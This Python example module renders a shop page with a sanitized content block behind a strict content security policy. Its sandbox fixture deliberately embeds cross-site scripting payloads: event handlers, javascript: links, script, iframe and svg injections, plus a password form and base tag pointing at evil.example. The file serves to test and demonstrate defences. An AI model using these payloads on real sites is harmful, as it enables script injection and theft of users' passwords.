"""
What both web examples show: a page of a shop with a content block in it, and the sandbox's definitions behind it.

The block's HTML comes from Engagement, so from whoever may edit campaigns there. It is safe to embed by construction:
the SDK hands out only what its sanitizer has written. The page's content security policy stands behind that as a second
wall: no script runs but the page's own file.
"""

from collections import OrderedDict
from collections.abc import Mapping
from html import escape
from typing import Any

from exponea_async import InAppContentBlock

PLACEHOLDER = "home_top"

HEADERS = {
    "Content-Security-Policy": (
        "default-src 'none'; script-src 'self'; connect-src 'self'; style-src 'unsafe-inline'; img-src https: data:; "
        "base-uri 'none'; form-action 'none'; frame-ancestors 'none'"
    ),
    "X-Content-Type-Options": "nosniff",
}

#: Tells the server what was pressed in the block, and goes where the server says.
SCRIPT = """
document.addEventListener("click", async (event) => {
  const link = event.target.closest("[data-block] a[href]");
  if (!link) return;
  event.preventDefault();
  const block = link.closest("[data-block]");
  const told = { block: block.dataset.block, url: link.getAttribute("href") };
  const answer = await fetch("/pressed" + location.search, { method: "POST", body: JSON.stringify(told) });
  const { open, closed } = await answer.json();
  if (closed) block.remove();
  if (open && /^https?:/.test(open)) location.assign(open);
});
"""

_PAGE = """<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Shop</title><script src="/page.js" defer></script></head>
<body>
<h1>Hello, {customer}</h1>
{block}
<p>Mugs, plates, bowls.</p>
</body>
</html>
"""


def render(customer: str, block: InAppContentBlock | None) -> str:
    """
    Make the page.

    Args:
        customer: Who looks at it; a text of the visitor's, so it is escaped.
        block: What to show above the goods; its HTML is safe already and goes in as it is.
    """
    shown = ""
    if block is not None and block.html is not None:
        shown = f'<section data-block="{escape(block.id)}">{block.html}</section>'
    return _PAGE.format(customer=escape(customer), block=shown)


class Shown:
    """The blocks on pages that somebody may still press on: the latest 1,000. An application would ask its sessions."""

    def __init__(self) -> None:
        self._blocks: OrderedDict[tuple[str, str], InAppContentBlock] = OrderedDict()

    def remember(self, customer: str, block: InAppContentBlock) -> None:
        """Keep a block that was shown."""
        self._blocks[customer, block.id] = block
        if len(self._blocks) > 1000:
            self._blocks.popitem(last=False)

    def find(self, customer: str, block_id: str) -> InAppContentBlock | None:
        """Find it again."""
        return self._blocks.get((customer, block_id))


#: What the sandbox has for this shop: a greeting for everybody, in which somebody has hidden all kinds of things.
DEFINITIONS: Mapping[str, Any] = {
    "content_blocks": [
        {
            "id": "greeting",
            "name": "Greeting",
            "placeholders": [PLACEHOLDER],
            # The pages ask for a customer tracker, which remembers no visits: it would take any other one as this.
            "frequency": "always",
            "personal": {
                "status": "OK",
                "ttl_seconds": 60,
                "variant_id": 0,
                "variant_name": "A",
                "content_type": "html",
                "content": {
                    "html": """
                        <style>.offer { background: #fee; padding: 1em } </style>
                        <div class="offer" onclick="alert('handler')">
                          <b>Spring sale</b> <a href="https://shop.example/sale">Look at it</a>
                          <a href="javascript:alert('link')">free money</a>
                          <img src="x" onerror="alert('image')">
                          <span data-actiontype="close">Not now</span>
                        </div>
                        <script>alert("script")</script>
                        <iframe srcdoc="&lt;script&gt;alert('frame')&lt;/script&gt;"></iframe>
                        <svg><script>alert("svg")</script></svg>
                        <form action="https://evil.example"><input name="password"></form>
                        <base href="https://evil.example/">
                    """
                },
            },
        }
    ]
}
